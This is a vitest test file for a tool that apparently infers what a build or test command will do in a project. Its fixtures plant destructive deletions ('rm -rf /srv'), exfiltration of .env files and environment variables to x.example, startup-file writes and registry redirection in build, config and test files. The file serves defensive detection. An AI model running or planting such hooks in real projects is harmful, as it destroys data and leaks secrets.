import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const at = (files: Readonly<Record<string, string>>): Readonly<Record<string, string>> =>
  Object.fromEntries(Object.entries(files).map(([name, text]) => [name.startsWith('/') ? name : `/w/${name}`, text]))

const goTest = (act: string): string => `package a\nimport ("os"; "testing")\nfunc TestMain(m *testing.M) { ${act}; os.Exit(m.Run()) }\n`

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>, expected: string]>([
  [
    'a module of a src layout',
    'pytest',
    { 'conftest.py': 'import shutil\nfrom app.p import D\nshutil.rmtree(D)', 'src/app/p.py': 'D = "data"' },
    'delete data',
  ],
  [
    'tests by names that settings give',
    'pytest',
    { 'pytest.ini': '[pytest]\npython_files =\n    check_*.py\n', 'tests/check_a.py': 'import os\nos.system("rm -rf /srv")\n' },
    'delete /srv',
  ],
  [
    'modules with examples in their comments',
    'pytest',
    {
      'pyproject.toml': '[tool.pytest.ini_options]\naddopts = "-q --doctest-modules"\n',
      'app/a.py': 'import os\nos.system("rm -rf /srv")\n',
    },
    'delete /srv',
  ],
  [
    'the same asked for on the line',
    'pytest --doctest-modules app',
    { 'app/a.py': 'import os\nos.system("rm -rf /srv")\n' },
    'delete /srv',
  ],
  [
    'names of tests on the line',
    'pytest -o python_files=check_*.py',
    { 'tests/check_a.py': 'import os\nos.system("rm -rf /srv")\n' },
    'delete /srv',
  ],
  [
    'command lines of a file',
    'python a.py',
    { 'a.py': 'import os\nos.system(open("a.txt").read())\n', 'a.txt': 'rm -rf /srv' },
    'delete /srv',
  ],
  [
    'the same in JavaScript',
    'node a.js',
    { 'a.js': 'require("child_process").execSync(require("fs").readFileSync("a.txt", "utf8"))', 'a.txt': 'rm -rf /srv' },
    'delete /srv',
  ],
  ['a library of Lua by its name', 'lua -l b a.lua', { 'a.lua': 'print(1)', 'b.lua': 'os.execute("rm -rf /srv")' }, 'delete /srv'],
  ['a library of Ruby by its name', 'ruby a.rb', { 'a.rb': 'require "app/b"', 'lib/app/b.rb': 'system("rm -rf data")' }, 'delete data'],
  [
    'a module of Rust',
    'cargo run',
    { 'src/main.rs': 'mod b;\nfn main() {}', 'src/b.rs': 'fn f() { std::fs::remove_dir_all("data"); }' },
    'delete data',
  ],
  ['a test of Go runs in its folder', 'go test ./...', { 'a/b/c_test.go': goTest('os.RemoveAll("../../data")') }, 'delete data'],
  [
    'a generator of Go runs in the folder of its line',
    'go generate ./...',
    {
      'a/b/c.go': '//go:generate go run ../../gen\n',
      'gen/main.go': 'package main\nimport "os"\nfunc main() { os.RemoveAll("../../data") }',
    },
    'delete data',
  ],
  [
    'a build script runs in its package',
    'cargo build',
    { 'libs/b/build.rs': 'fn main() { std::fs::remove_dir_all("../../data"); }' },
    'delete data',
  ],
  [
    'a test of Rust runs in its package',
    'cargo test',
    { 'crates/b/tests/c.rs': 'fn t() { std::fs::remove_dir_all("data"); }' },
    'delete crates/b/data',
  ],
  ['a build file runs in its package', 'gradle test', { 'b/build.gradle': 'delete "data"' }, 'delete b/data'],
  [
    'a build file of the home folder',
    'gradle test',
    { 'settings.gradle': 'new File(System.getProperty("user.home"), ".c").deleteDir()' },
    'delete ~/.c',
  ],
  [
    'a plugin of the build itself',
    'gradle test',
    { 'buildSrc/src/main/groovy/a.gradle': 'tasks.register("x") {}\n"rm -rf data".execute()' },
    'delete data',
  ],
  ['the second of several', 'gradle test', { 'build.gradle.kts': 'delete("build", file("data"))' }, 'delete data'],
  ['one of the project by its folder', 'gradle test', { 'build.gradle': 'delete "$rootDir/data"' }, 'delete data'],
  ['each of a list', 'gradle test', { 'build.gradle.kts': 'listOf("a", "data").forEach { File(it).deleteRecursively() }' }, 'delete data'],
  [
    'one with a name',
    'gradle run',
    { 'src/main/kotlin/A.kt': 'val STORE = File("data")\nfun main() { STORE.deleteRecursively() }' },
    'delete data',
  ],
  [
    'a walk over several lines',
    'gradle bootRun',
    { 'src/main/java/a/A.java': 'Files.walk(Path.of("data"))\n  .map(Path::toFile)\n  .forEach(File::delete);' },
    'delete data',
  ],
  ['one put together', 'dotnet run', { 'Program.cs': 'Directory.Delete(Path.Combine("data", "x"), true);' }, 'delete data/x'],
  [
    'a folder that Maven cleans as well',
    'mvn clean',
    { 'pom.xml': '<plugin><artifactId>maven-clean-plugin</artifactId><fileset><directory>data</directory></fileset></plugin>' },
    'delete data',
  ],
  [
    'a build tool from elsewhere',
    'gradle test',
    { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://x.example/gradle.zip' },
    'execute:arbitrary https://x.example/gradle.zip',
  ],
  [
    'settings that load what changes a start file',
    'eslint .',
    { 'eslint.config.js': "require('./a')", 'a.js': "require('fs').writeFileSync(require('os').homedir() + '/.bashrc', 'x')" },
    'write ~/.bashrc',
  ],
  [
    'settings that load what sends secrets',
    'vite build',
    {
      'vite.config.js': "import './a.js'",
      'a.js': "import fs from 'fs'\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('.env') })",
    },
    'send:data https://x.example',
  ],
  [
    'files that a makefile includes by a pattern',
    'make a',
    { Makefile: '-include mk/*.mk\na: b\n', 'mk/b.mk': 'b:\n\trm -rf data\n' },
    'delete data',
  ],
  ['a justfile that is imported', 'just a', { justfile: "import 'x/b.just'\na: b\n", 'x/b.just': 'b:\n  rm -rf data\n' }, 'delete data'],
  ['what Rake cleans', 'rake a', { Rakefile: 'CLEAN.include("build", "data")\ntask a: :clean do\n  1\nend\n' }, 'delete data'],
  [
    'a task from a file that is loaded',
    'rake a',
    { Rakefile: 'Dir["t/*.rake"].each { |f| load f }', 't/a.rake': 'task :a do\n  rm_rf "data"\nend\n' },
    'delete data',
  ],
  ['a task of mix', 'mix lint', { 'lib/mix/tasks/lint.ex': 'def run(_), do: File.rm_rf!("data")' }, 'delete data'],
  ['another name for a task of mix', 'mix a', { 'mix.exs': 'defp aliases, do: [a: ["compile", "cmd rm -rf data"]]' }, 'delete data'],
  ['one that comes before the task', 'mix test', { 'mix.exs': 'defp aliases do\n[test: ["cmd rm -rf data", "test"]]\nend' }, 'delete data'],
  ['a script that mix runs', 'mix run a.exs', { 'a.exs': 'App.Repo.query!("DROP SCHEMA public")' }, 'database:write query!("DROP SCHEMA'],
  ['a test of .NET', 'dotnet test', { 'tests/T/ATests.cs': 'Directory.Delete("../../../../../data", true);' }, 'delete data'],
  [
    'packages from elsewhere',
    'npm ci',
    { 'package.json': '{}', '.npmrc': 'registry=https://x.example/' },
    'install:url https://x.example/',
  ],
  [
    'packages that nobody checks',
    'yarn install',
    { 'package.json': '{}', '.yarnrc.yml': 'enableStrictSsl: false' },
    'config:tls-off enableStrictSsl: false',
  ],
  [
    'packages by an open way',
    'dotnet restore',
    { 'nuget.config': '<add key="x" value="http://x.example/v3" />' },
    'install:url http://x.example/v3',
  ],
  [
    'a program of a module of Terraform',
    'terraform plan',
    {
      'modules/m/a.tf': 'data "external" "x" {\n  program = ["python3", "${path.module}/x.py"]\n}',
      'modules/m/x.py': 'import os\nos.system("rm -rf data")',
    },
    'delete data',
  ],
  [
    'a task that a rehearsal runs as well',
    'ansible-playbook --check a.yml',
    { 'a.yml': '- hosts: localhost\n  tasks:\n    - command: rm -rf data\n      check_mode: false\n' },
    'delete data',
  ],
  [
    'settings that extend others',
    'eslint .',
    { '.eslintrc.json': '{"extends":["./tools/base"]}', 'tools/base.js': "require('fs').rmSync('data')" },
    'delete data',
  ],
  [
    'a file put into a bucket',
    'python a.py',
    { 'a.py': 'import boto3\nboto3.client("s3").upload_file(".env", "b", "k")' },
    'send:data cloud storage',
  ],
  [
    'a setting of Django',
    'python manage.py tidy',
    {
      'manage.py': '',
      'a/settings.py': 'MEDIA_ROOT = "media"',
      'b/management/commands/tidy.py': 'import shutil\nfrom django.conf import settings\nshutil.rmtree(settings.MEDIA_ROOT)',
    },
    'delete media',
  ],
  ['tests of Django', 'python manage.py test', { 'manage.py': '', 'b/tests.py': 'import os\nos.system("rm -rf data")' }, 'delete data'],
  ['tests that pytest finds', 'pytest', { 'tests/a/test_b.py': 'import os\nos.system("rm -rf data")' }, 'delete data'],
  ['tests that vitest finds', 'vitest run', { 'src/a.test.ts': "import fs from 'fs'\nfs.rmSync('data')" }, 'delete data'],
  ['tests that mocha finds', 'mocha', { 'test/a.js': "require('fs').rmSync('data')" }, 'delete data'],
  [
    'settings of a package of the workspace',
    'jest',
    { 'packages/a/jest.config.js': "module.exports = { globalSetup: './s' }", 'packages/a/s.js': "require('fs').rmSync('data')" },
    'delete data',
  ],
  [
    'modules that settings name',
    'nuxt build',
    { 'nuxt.config.ts': "export default { modules: ['./modules/a'] }", 'modules/a.ts': "import fs from 'fs'\nfs.rmSync('data')" },
    'delete data',
  ],
  ['an application of Celery', 'celery -A a worker', { 'a/celery.py': 'import os\nos.system("rm -rf data")' }, 'delete data'],
  [
    'a package among requirements',
    'pip install -r r.txt',
    { 'r.txt': '-e ./p[x] # own\n', 'p/setup.py': 'import os\nos.system("rm -rf data")' },
    'delete data',
  ],
  ['tests of Dart', 'dart test', { 'test/a_test.dart': "void main() { Directory('data').deleteSync(recursive: true); }" }, 'delete data'],
  ['a program of Dart', 'dart run', { 'bin/a.dart': "void main() { Process.runSync('rm', ['-rf', 'data']); }" }, 'delete data'],
  ['tests of Lua', 'busted', { 'spec/a_spec.lua': 'os.execute("rm -rf data")' }, 'delete data'],
  ['tests of Crystal', 'crystal spec', { 'spec/a_spec.cr': 'FileUtils.rm_rf("data")' }, 'delete data'],
  ['code of Clojure', 'clojure -M:test', { 'deps.edn': '{}', 'src/t.clj': '(sh "rm" "-rf" "data")' }, 'delete data'],
  ['tests that Maven finds', 'mvn test', { 'src/test/java/a/ATest.java': 'FileUtils.deleteDirectory(new File("data"));' }, 'delete data'],
  ['tests that Gradle finds', 'gradle check', { 'src/test/kotlin/ATest.kt': 'File("data").deleteRecursively()' }, 'delete data'],
  ['tests that PHPUnit finds', 'phpunit', { 'tests/Unit/ATest.php': '<?php exec("rm -rf data");' }, 'delete data'],
  ['tests that RSpec finds', 'rspec', { 'spec/models/a_spec.rb': 'FileUtils.rm_rf("data")' }, 'delete data'],
  ['tests that mix finds', 'mix test', { 'test/a/b_test.exs': 'File.rm_rf!("data")' }, 'delete data'],
  [
    'a line of a set-up script',
    'ruby bin/setup.rb',
    { 'bin/setup.rb': 'def system!(*a) = system(*a, exception: true)\nsystem! "rm -rf data"' },
    'delete data',
  ],
  ['a worker', 'node a.js', { 'a.js': "new Worker('./b.js')", 'b.js': "require('fs').rmSync('data')" }, 'delete data'],
  [
    'a folder to fill that is put together',
    'webpack',
    { 'webpack.config.js': "module.exports = { output: { path: __dirname + '/data' } }" },
    'write data',
  ],
  ['tests beside the code of Rust', 'cargo test', { 'src/a.rs': '#[test]\nfn t() { std::fs::remove_dir_all("data"); }' }, 'delete data'],
  [
    'a folder of Dart with a name',
    'dart test',
    { 'test/a_test.dart': "final d = Directory('data');\nd.deleteSync(recursive: true);" },
    'delete data',
  ],
  [
    'a test that sends the environment',
    'pytest',
    { 'tests/test_a.py': "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))" },
    'send:data https://x.example',
  ],
])('%s', (_name, commandLine, files, expected) => {
  expect(effectLines(commandLine, { files: at(files) })).toContain(expected)
})

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>, expected: readonly string[]]>([
  [
    'a build tool from those who make it',
    'gradle test',
    { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.8-bin.zip' },
    ['execute:project tests', 'write build'],
  ],
  [
    'code that is loaded and asks a server with a key',
    'vite build',
    {
      'vite.config.js': "import './a.js'",
      'a.js': "export const f = () => fetch('https://x.example', { headers: { key: process.env.KEY } })",
    },
    ['execute:project build', 'write dist'],
  ],
  [
    'code that is loaded and keeps settings of its own',
    'vite build',
    { 'vite.config.js': "import './a.js'", 'a.js': "require('fs').writeFileSync(require('os').homedir() + '/.config/app/a.json', 'x')" },
    ['execute:project build', 'write dist'],
  ],
  [
    'packages from where everybody takes them, and from a place for one scope',
    'npm ci',
    {
      'package.json': '{}',
      '.npmrc': 'registry=https://registry.npmjs.org/\n@a:registry=https://x.example/\nregistry=http://localhost:4873',
    },
    ['install:manifest package.json'],
  ],
  [
    'a rehearsal',
    'ansible-playbook --check a.yml',
    { 'a.yml': '- hosts: localhost\n  tasks:\n    - command: rm -rf data\n' },
    ['read a.yml', 'infra:dry-run playbook'],
  ],
  [
    'tests of Phoenix',
    'mix test',
    { 'mix.exs': 'docs: [main: "readme"]\ndefp aliases do\n[test: ["ecto.create --quiet", "ecto.migrate --quiet", "test"]]\nend' },
    ['execute:project mix.exs test', 'execute:project tests', 'write _build'],
  ],
  [
    'what Rake cleans when it is asked to',
    'rake a',
    { Rakefile: 'CLEAN.include("data")\ntask :a do\n  1\nend\n' },
    ['execute:project Rakefile a'],
  ],
  [
    'a file put into a bucket that is a stand-in',
    'pytest',
    {
      'test_a.py':
        'import boto3\nfrom moto import mock_aws\n@mock_aws\ndef test_a():\n    boto3.client("s3").upload_file("a.csv", "b", "k")',
    },
    ['execute:project tests'],
  ],
  [
    'a build that leaves its tests out',
    'gradle build -x test',
    { 'src/test/kotlin/ATest.kt': 'File("data").deleteRecursively()' },
    ['execute:project build', 'write build'],
  ],
  [
    'a test that empties its own database',
    'jest',
    { 'test/a.test.js': "const db = new Database('t')\ndb.exec('DROP TABLE users')" },
    ['execute:project tests'],
  ],
  [
    'a test that asks a server to delete',
    'mvn test',
    { 'src/test/java/a/ATest.java': 'mockMvc.perform(delete("/users/1"));' },
    ['execute:project tests', 'write target'],
  ],
])('%s', (_name, commandLine, files, expected) => {
  expect(effectLines(commandLine, { files: at(files) })).toEqual(expected)
})
